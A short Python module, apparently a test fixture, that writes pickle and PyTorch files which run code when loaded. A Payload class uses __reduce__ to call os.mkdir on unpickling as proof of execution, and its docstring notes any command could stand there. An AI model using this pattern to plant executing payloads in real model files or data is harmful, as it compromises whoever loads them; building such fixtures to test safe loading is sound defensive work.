"""Files that attack whoever unpickles them."""

import os
import pickle
from pathlib import Path
from typing import Any

import torch


class Payload:
    """Unpickled, it makes the folder `proof`: any command could stand there."""

    def __init__(self, proof: Path) -> None:
        self.proof = proof

    def __reduce__(self) -> tuple:
        return os.mkdir, (str(self.proof),)


def as_torch(content: Any, file: Path) -> None:
    torch.save(content, file)


def as_pickle(content: Any, file: Path) -> None:
    file.write_bytes(pickle.dumps(content, 2))
